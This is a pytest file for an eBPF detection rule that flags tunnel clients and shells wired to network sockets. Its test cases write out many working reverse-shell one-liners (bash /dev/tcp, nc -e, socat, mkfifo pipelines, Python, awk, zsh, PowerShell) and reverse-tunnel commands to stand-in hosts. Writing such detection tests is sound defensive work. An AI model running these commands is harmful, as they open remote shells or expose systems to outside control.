"""tunnel.other: tunnel clients that expose the sandbox, and shells wired to sockets."""

from __future__ import annotations

import shlex

import pytest
from hypothesis import given
from hypothesis import strategies as st
from shipped_rules import context_for

from ebpfguard.detect.tunnel_other import OtherTunnel

RULE = OtherTunnel(context_for("tunnel.other"))


def run(command_line: str, **extra) -> list:
    argv = shlex.split(command_line)
    return list(RULE.on_event({"kind": "exec", "argv": argv, **extra}))


@pytest.mark.parametrize("command_line, technique", [
    ("chisel client https://c2.example.com R:2222:localhost:22", "reverse_forward"),
    ("chisel client --auth u:p c2.example.com:443 R:socks", "reverse_forward"),
    ("frpc -c /etc/frp/frpc.toml", "expose_service"),
    ("ngrok http 8080", "expose_service"),
    ("ngrok --config /tmp/n.yml tcp 22", "expose_service"),
    ("cloudflared tunnel --url http://localhost:8000", "expose_service"),
    ("cloudflared tunnel run --token eyJh", "expose_service"),
    ("cloudflared service install eyJh", "expose_service"),
    ("bore local 8000 --to bore.pub", "expose_service"),
    ("lt --port 8000 --subdomain agent", "expose_service"),
    ("npx localtunnel --port 8000", "expose_service"),
    ("code tunnel --accept-server-license-terms --name box", "expose_service"),
    ("code tunnel service install", "expose_service"),
    ("socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:10.0.0.1:4444",
     "exec_to_network"),
    ("socat TCP-LISTEN:4444,reuseaddr,fork SYSTEM:/bin/sh", "exec_to_network"),
    ("nc -e /bin/sh 10.0.0.1 4444", "exec_to_network"),
    ("nc -lvnp 4444 -e /bin/bash", "exec_to_network"),
    ("nc -nve/bin/sh 10.0.0.1 4444", "exec_to_network"),
    ("ncat --exec /bin/bash 10.0.0.1 4444", "exec_to_network"),
    ("ncat --sh-exec='sh -i' 10.0.0.1 4444", "exec_to_network"),
    ("busybox nc 10.0.0.1 4444 -e sh", "exec_to_network"),
    ("bash -c 'bash -i >& /dev/tcp/10.0.0.1/4242 0>&1'", "shell_redirect"),
    ("sh -c 'exec 5<>/dev/tcp/10.0.0.1/4242; cat <&5 | while read l; do $l 2>&5 >&5; done'",
     "shell_redirect"),
    ("python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"10.0.0.1\",4242));"
     "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'", "inline_reverse_shell"),
])
def test_tunnels_are_found(command_line, technique):
    [finding] = run(command_line)
    assert finding.evidence["technique"] == technique


def test_shells_on_sockets_are_critical():
    [finding] = run("nc -e /bin/sh 10.0.0.1 4444")
    assert finding.severity == "critical"
    [finding] = run("ngrok http 80")
    assert finding.severity is None  # the rule's own


@pytest.mark.parametrize("command_line", [
    "chisel server --reverse --port 8080",
    "chisel client https://c2.example.com 3000 socks",
    "kubectl port-forward pod/web 8080:80",
    "sshuttle -r user@bastion 10.0.0.0/8",
    "frpc --version",
    "ngrok config add-authtoken 2abc",
    "cloudflared tunnel list",
    "cloudflared access tcp --hostname ssh.example.com --url localhost:2222",
    "bore server",
    "code --install-extension ms-python.python",
    "code tunnel status",
    "socat TCP-LISTEN:8080,fork TCP:localhost:80",
    "nc -zv db 5432",
    "nc -X connect -x proxy:3128 example.com 22",
    "ncat -C mail.example.com 25",
    "bash -c 'timeout 1 bash -c \"</dev/tcp/db/5432\"'",
    "bash -c 'exec 3<>/dev/tcp/example.com/80; echo -e \"GET / HTTP/1.0\\r\\n\" >&3; cat <&3'",
    "python3 -c 'import socket; print(socket.gethostname())'",
])
def test_local_forwards_servers_and_everyday_commands_are_not_tunnels(command_line):
    assert run(command_line) == []


def test_failed_exec_is_not_counted():
    assert run("ngrok http 80", retval=-13) == []


@given(st.sampled_from(["chisel", "frpc", "ngrok", "cloudflared", "bore", "lt", "code",
                        "socat", "nc", "bash", "python3", "npx", "busybox"]),
       st.lists(st.text(max_size=12), max_size=8))
def test_any_argv_is_classified_without_error(program, args):
    list(RULE.on_event({"kind": "exec", "argv": [program, *args]}))


@pytest.mark.parametrize("command_line, tool", [
    ("/tmp/.x/kthreadd client https://203.0.113.70:443 R:socks", "chisel"),
    ("./agentd tunnel --url http://localhost:8080", "cloudflared"),
    ("./agent -connect 203.0.113.80:11601 -ignore-cert", "ligolo-ng"),
    ("./worker tcp -s 203.0.113.90:7000 -l 22 -r 6000", "frpc"),
    ("./netd -L=rtcp://0.0.0.0:8080/127.0.0.1:80 -F=relay+wss://203.0.113.93:443", "gost"),
    ("/tmp/.s exec:/bin/bash,pty tcp:203.0.113.99:4444", "socat"),
    ("./cat2 203.0.113.98 4444 -e /bin/sh", "netcat"),
])
def test_renamed_tunnel_tools_are_known_by_their_argument_grammar(command_line, tool):
    [finding] = run(command_line)
    assert finding.evidence["tool"] == tool


@pytest.mark.parametrize("command_line", [
    "openssl s_client -connect example.com:443 -servername example.com",
    "./tool client https://api.example.com --retries 3",
    "iptables -A INPUT -p tcp --dport 22 -j ACCEPT",
    "gost -L tcp://:8080/127.0.0.1:80",
    "./report http --local_port 8080",
    "grep -e /bin/sh notes.txt",
])
def test_look_alike_command_lines_are_not_tunnels(command_line):
    assert run(command_line) == []


@pytest.mark.parametrize("script", [
    "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.100 4444 >/tmp/f",
    "mkfifo f; nc 203.0.113.101 9001 <f | /bin/sh >f 2>&1",
    "telnet 203.0.113.103 4444 | /bin/sh | telnet 203.0.113.103 4445",
])
def test_shells_piped_to_network_clients_in_scripts_are_critical(script):
    [finding] = list(RULE.on_event({"kind": "exec", "argv": ["sh", "-c", script]}))
    assert finding.evidence["technique"] == "shell_pipeline" and finding.severity == "critical"


@pytest.mark.parametrize("script", [
    "curl -fsSL https://get.docker.com | sh",
    "mkfifo /tmp/q; gzip -c < /tmp/q > out.gz & tar cf /tmp/q data/",
    "nc -z -w 2 db 5432 && echo up",
])
def test_pipelines_without_a_shell_on_a_network_client_are_not_alerts(script):
    assert list(RULE.on_event({"kind": "exec", "argv": ["sh", "-c", script]})) == []


def test_an_interpreter_handing_a_socket_to_a_subprocess_under_any_name_is_a_reverse_shell():
    code = ('import socket,subprocess;s=socket.socket();s.connect(("203.0.113.106",4444));'
            'subprocess.call(["/bin/sh","-i"],stdin=s.fileno(),stdout=s.fileno())')
    [finding] = list(RULE.on_event({"kind": "exec", "argv": ["/tmp/py", "-c", code]}))
    assert finding.evidence["technique"] == "inline_reverse_shell"


def test_a_tunnel_inside_a_wrapper_is_judged_as_the_wrapped_command():
    [finding] = run("nohup timeout 600 cloudflared tunnel --url http://localhost:8000")
    assert finding.evidence["program"] == "cloudflared"


@pytest.mark.parametrize("command_line, tool", [
    ("wstunnel client -R tcp://2222:localhost:22 wss://203.0.113.120:443", "wstunnel"),
    ("./svc client --remote-to-local socks5://127.0.0.1:1080 wss://203.0.113.121", "wstunnel"),
    ("./iox proxy -r 203.0.113.122:9999", "iox"),
    ("./agent -c 203.0.113.123:9999 -s secret", "stowaway"),
    ("./p -type client -l :4455 -s 203.0.113.124 -t 203.0.113.124:4455", "pingtunnel"),
    ("./npc -server=203.0.113.125:8024 -vkey=abc", "npc"),
    ("./revsocks -connect 203.0.113.131:8443 -pass x", "connect-back agent"),
    ("iodine -f -P pw t1.example.com", "tunnel"),
    ("expose share http://localhost:8000", "expose"),
])
def test_reverse_tunnel_agents_and_dns_tunnels(command_line, tool):
    [finding] = run(command_line)
    assert finding.evidence["tool"] == tool


@pytest.mark.parametrize("argv", [
    ["awk", 'BEGIN {s = "/inet/tcp/0/203.0.113.127/4242"; while(42) { s |& getline c; print c |& s }}'],
    ["zsh", "-c", "zmodload zsh/net/tcp && ztcp 203.0.113.128 4242 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY"],
    ["pwsh", "-c", "$c = New-Object System.Net.Sockets.TCPClient('203.0.113.129',4242);$s = $c.GetStream();"
                   "while(($i = $s.Read($b, 0, $b.Length)) -ne 0){$o = (iex $d 2>&1 | Out-String)}"],
])
def test_shells_on_sockets_in_awk_zsh_and_powershell_are_critical(argv):
    [finding] = list(RULE.on_event({"kind": "exec", "argv": argv}))
    assert finding.severity == "critical"


@pytest.mark.parametrize("command_line", [
    "wstunnel client -L tcp://8080:localhost:80 wss://203.0.113.120",
    "awk -F: {print $1} /etc/passwd",
    "tmole --help",
    "curl -c cookies.txt -s https://example.com",
])
def test_local_forwards_and_ordinary_uses_are_not_tunnels(command_line):
    assert run(command_line) == []
